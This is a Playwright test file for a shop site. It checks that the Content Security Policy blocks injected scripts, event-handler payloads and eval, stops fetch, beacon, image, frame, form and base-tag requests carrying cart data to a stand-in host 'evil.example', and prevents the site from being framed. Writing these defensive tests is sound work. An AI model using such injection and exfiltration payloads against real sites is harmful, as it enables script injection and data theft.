import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '../support/shop-test.ts';

test.describe('the walls of a page', () => {
  test('nothing runs in a page but the shop’s own scripts', async ({ page, expectNoise }) => {
    expectNoise(/refused by the policy: script-src|Content Security Policy|evil\.example/);
    await page.goto('/product/omega-3');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const tried = await page.evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { run: (what: string) => void ran.push(what) });
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
        refused.push(`${effectiveDirective} ${blockedURI}`);
      });
      const add = (name: string, fields: object) =>
        document.body.append(Object.assign(document.createElement(name), fields));
      add('script', { textContent: 'run("inline")' });
      add('script', { src: 'https://evil.example/x.js' });
      add('script', { src: 'data:text/javascript,run("data")' });
      add('script', { src: URL.createObjectURL(new Blob(['run("blob")'])) });
      add('script', { src: 'https://www.google.com/recaptcha/about/js/main.min.js' });
      const holder = document.createElement('div');
      holder.innerHTML =
        '<img alt="" src="data:," onerror="run(\'handler\')"><a id="hostile" href="javascript:run(\'link\')">a</a><svg onload="run(\'svg\')"></svg>';
      document.body.append(holder);
      document.getElementById('hostile')?.click();
      // Not at once: what a test evaluates may itself make code of a text.
      setTimeout(() => {
        try {
          // oxlint-disable-next-line typescript/no-implied-eval
          const made = new Function('run("function")') as () => void;
          made();
        } catch {
          refused.push('eval');
        }
      }, 0);
      await new Promise((resolve) => {
        setTimeout(resolve, 500);
      });
      return { ran, refused };
    });
    expect(tried.ran).toEqual([]);
    expect(tried.refused).toContain('script-src-elem inline');
    expect(tried.refused).toContain('script-src-attr inline');
    expect(tried.refused).toContain('script-src-elem https://evil.example/x.js');
    expect(tried.refused).toContain('eval');
    expect(tried.refused.filter((one) => one.includes('recaptcha'))).toHaveLength(1);
  });

  test('what a page holds goes nowhere else: not by a request, a form, a frame or a new base', async ({
    page,
    context,
    expectNoise,
  }) => {
    expectNoise(/refused by the policy:|Content Security Policy|evil\.example|Refused to/);
    const elsewhere: string[] = [];
    await context.route('https://evil.example/**', async (route) => {
      elsewhere.push(route.request().url());
      await route.abort();
    });
    await page.goto('/faq');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const told = await page.evaluate(async () => {
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        refused.push(event.effectiveDirective);
      });
      await fetch('https://evil.example/?cart').catch(() => null);
      navigator.sendBeacon('https://evil.example/?cart');
      document.body.insertAdjacentHTML(
        'beforeend',
        `<base href="https://evil.example/"><img alt="" src="https://evil.example/pixel.png">
         <iframe title="a" src="https://evil.example/"></iframe>
         <object data="https://evil.example/"></object>
         <form action="https://evil.example/" method="post"><button id="send">a</button></form>`,
      );
      document.getElementById('send')?.click();
      await new Promise((resolve) => {
        setTimeout(resolve, 500);
      });
      return [...new Set(refused)].sort();
    });
    expect(told).toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
    ]);
    expect(elsewhere).toEqual([]);
  });

  test('no other site shows the shop in a frame', async ({ page, baseURL, expectNoise }) => {
    expectNoise(/frame-ancestors|X-Frame-Options|ERR_BLOCKED_BY_RESPONSE|Refused to|chrome-error/);
    const site = createServer((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end(`<iframe title="the shop" src="${baseURL ?? ''}/dashboard"></iframe>`);
    });
    await new Promise<void>((listening) => void site.listen(0, 'localhost', () => listening()));
    try {
      const { port } = site.address() as AddressInfo;
      const refused = page.waitForEvent('console', (said) =>
        /frame-ancestors|X-Frame-Options/.test(said.text()),
      );
      await page.goto(`http://localhost:${port}/`);
      await refused;
      await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
    } finally {
      site.close();
      site.closeAllConnections();
    }
  });
});
